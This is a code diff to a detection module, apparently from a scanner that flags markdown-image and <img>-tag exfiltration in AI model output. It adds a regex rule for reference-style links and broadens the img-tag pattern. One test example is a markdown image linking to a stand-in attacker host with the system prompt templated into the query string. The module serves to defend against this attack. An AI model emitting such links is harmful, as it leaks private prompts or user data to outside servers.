@@ -49,9 +49,25 @@ export const EXFILTRATION_MARKERS = [
   }),
   marker({
     id: 'markdown_exfiltration',
+    anchors: [']: http'],
+    from: (text, at) => {
+      const open = text.slice(Math.max(0, at - 60), at).lastIndexOf('[')
+      return open < 0 ? -1 : Math.max(0, at - 60) + open
+    },
+    expression: /\[[^\]\n]{1,60}\]: https?:\/\/(?<body>[^\s"'<>]{3,2000})/y,
+    boundary: 'inside',
+    judge: (found) => (FILLED_IN.test(found.body) ? unlessMentioned(found) : 'no'),
+    examples: {
+      match: ['![logo][1]\n\n[1]: https://evil.test/x?prompt={system_prompt}'],
+      ignore: ['[docs]: https://acme.test/docs?v=2'],
+    },
+  }),
+  marker({
+    id: 'markdown_exfiltration',
     anchors: ['<img '],
     anyCase: true,
-    expression: /<img\s(?:[^<>]{0,300}?\s)?src\s{0,2}=\s{0,2}["']?https?:\/\/(?<body>[^"'<>\s]{3,2000})/iy,
+    expression:
+      /<img\s(?:[^<>]{0,300}?\s)?src\s{0,2}=\s{0,2}\\{0,3}["']?https?:\/\/(?<body>(?:[^"'<>\s\\]|<[A-Za-z_ -]{2,40}>){3,2000})/iy,
     boundary: 'inside',
     judge: (found) =>
       carries(found.body) && !/shields\.io|badge|githubusercontent|gravatar/i.test(found.body)
